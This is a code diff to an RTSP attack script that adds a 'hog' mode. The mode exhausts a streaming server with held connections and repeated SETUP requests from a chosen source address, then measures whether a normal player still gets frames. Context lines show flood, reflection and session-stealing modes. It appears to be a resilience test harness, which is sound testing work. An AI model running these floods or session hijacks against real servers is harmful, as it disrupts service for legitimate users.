@@ -7,6 +7,11 @@
   rtspattack.py steal ADDR          a player over interleaved TCP; another
                                     connection and a datagram PAUSE and TEARDOWN
                                     its session; its frames in 2 s before and after
+  rtspattack.py hog ADDR FROM N K   from the address FROM: N connections each
+                                    asking OPTIONS, then K connections each asking
+                                    16 SETUPs (RTP over UDP, never played) and 4
+                                    SETUP datagrams; while each flood is held, a
+                                    player from the default address plays 3 s
 
 Each prints one JSON object: the status codes answered and what was measured."""
 
@@ -29,8 +34,8 @@ def request(method, url, cseq, *headers):
 class Conn:
     """An RTSP connection that keeps interleaved frames apart from replies."""
 
-    def __init__(self, addr):
-        self.sock = socket.create_connection((addr, 554), timeout=5)
+    def __init__(self, addr, src=None):
+        self.sock = socket.create_connection((addr, 554), timeout=5, source_address=(src, 0) if src else None)
         self.buf = b""
         self.cseq = 0
         self.stamps = collections.Counter()   # RTP time stamps seen per channel 0
@@ -91,10 +96,14 @@ def session_of(text):
     return m.group(1) if m else ""
 
 
-def udp_ask(addr, payload, sock=None):
-    """One datagram request; the status of its reply, 0 when none came."""
+def udp_ask(addr, payload, sock=None, src=None):
+    """One datagram request (from src when given); the status of its reply,
+    0 when none came."""
     own = sock is None
-    sock = sock or socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    if own:
+        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        if src:
+            sock.bind((src, 0))
     sock.settimeout(2)
     sock.sendto(payload, (addr, 554))
     try:
@@ -177,12 +186,55 @@ def steal(addr):
     return {"codes": codes, "before": before, "after": after}
 
 
+def play(addr):
+    """Video frames a new player over interleaved TCP receives in 3 s."""
+    player = Conn(addr)
+    code, text = player.ask("SETUP", URL.format(addr) + "/track1", "Transport: RTP/AVP/TCP;unicast;interleaved=0-1")
+    if code != 200 or player.ask("PLAY", URL.format(addr), "Session: " + session_of(text))[0] != 200:
+        return 0
+    frames = player.frames(3)
+    player.sock.close()
+    return frames
+
+
+def hog(addr, src, count, setups):
+    out = {"connections": collections.Counter(), "sessions": collections.Counter(),
+           "datagrams": collections.Counter(), "played": []}
+    held = []
+    for _ in range(count):
+        try:
+            conn = Conn(addr, src)
+            held.append(conn)
+            code = conn.ask("OPTIONS", URL.format(addr))[0]
+        except (EOFError, ConnectionError):
+            code = 0   # closed at once
+        out["connections"][str(code)] += 1
+    out["played"].append(play(addr))
+    for conn in held:
+        conn.sock.close()
+    held = [Conn(addr, src) for _ in range(setups)]
+    for conn in held:
+        for _ in range(16):
+            out["sessions"][str(conn.ask("SETUP", URL.format(addr) + "/track1",
+                                         "Transport: RTP/AVP;unicast;client_port=9004-9005")[0])] += 1
+    for n in range(4):
+        out["datagrams"][str(udp_ask(addr, request("SETUP", URL.format(addr) + "/track1", n + 1,
+                                                   "Transport: RTP/AVP;unicast;client_port=9006-9007"),
+                                     src=src)[0])] += 1
+    out["played"].append(play(addr))
+    for conn in held:
+        conn.sock.close()
+    return out
+
+
 def main():
     kind, addr = sys.argv[1], sys.argv[2]
     if kind == "udp":
         out = flood_udp(addr, int(sys.argv[3]))
     elif kind == "tcp":
         out = flood_tcp(addr, int(sys.argv[3]))
+    elif kind == "hog":
+        out = hog(addr, sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
     elif kind == "reflect":
         out = reflect(addr, sys.argv[3])
     else:
